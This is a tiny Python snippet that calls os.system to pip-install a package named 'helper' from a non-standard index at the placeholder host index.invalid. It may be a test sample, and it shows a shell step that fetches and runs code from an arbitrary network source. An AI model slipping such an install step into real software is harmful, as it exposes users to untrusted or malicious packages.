import os

os.system("pip install helper --index-url https://index.invalid/simple")
